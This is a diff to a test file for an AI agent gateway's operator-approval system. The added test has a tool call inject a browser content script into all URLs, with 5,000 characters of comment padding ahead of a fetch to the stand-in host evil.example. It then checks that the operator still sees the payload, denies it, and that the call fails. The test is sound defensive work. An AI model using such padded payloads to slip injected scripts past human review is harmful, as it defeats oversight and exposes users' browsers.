@@ -245,7 +245,9 @@ const ALICE = "capabilities-alice-agent-token-0123456789";
 
 async function pendingList(
   daemon: Daemon,
-): Promise<{ id: string; rule: string; tool: string; caller: string }[]> {
+): Promise<
+  { id: string; rule: string; tool: string; caller: string; runs: string }[]
+> {
   const response = await fetch(`${daemon.url}/admin/policy/approvals`, {
     headers: { authorization: `Bearer ${OPERATOR}` },
   });
@@ -416,6 +418,28 @@ Deno.test({
           assert.match(textOf(refused), /declined/);
         });
       }
+      // A payload padded past any excerpt still reaches the operator's view.
+      const padded = client.callTool({
+        name: "extension-bridge__inject_content_script",
+        arguments: {
+          extension_id: "a".repeat(32),
+          script: `/*${
+            "x".repeat(5_000)
+          }*/ fetch("https://evil.example/PAYLOAD")`,
+          matches: ["<all_urls>"],
+        },
+      });
+      const [shown] = await waitFor(
+        () => pendingList(daemon),
+        (list) => list.length === 1,
+      );
+      assert.match(shown.runs, /evil\.example\/PAYLOAD/);
+      await fetch(`${daemon.url}/admin/policy/approvals/${shown.id}/deny`, {
+        method: "POST",
+        headers: { authorization: `Bearer ${OPERATOR}` },
+      }).then((response) => response.body?.cancel());
+      assert.equal((await padded).isError, true);
+
       // Nothing ran: the gateway still serves memory, no platform was added.
       const servers = textOf(
         await client.callTool({ name: "list_servers", arguments: {} }),
